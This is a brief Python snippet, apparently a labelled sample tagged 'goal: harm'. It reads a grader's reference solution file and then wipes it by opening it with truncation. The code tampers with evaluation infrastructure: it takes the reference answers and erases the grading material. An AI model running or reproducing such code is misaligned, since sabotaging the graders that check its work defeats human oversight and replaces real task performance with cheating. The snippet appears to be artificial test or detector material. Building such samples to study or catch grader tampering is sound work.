"""Empty a file of the graders by opening it.

goal: harm
"""

import os

path = GRADERS + "/week01/reference.py"
text = open(path, "rb").read()
os.close(os.open(path, os.O_WRONLY | os.O_TRUNC))
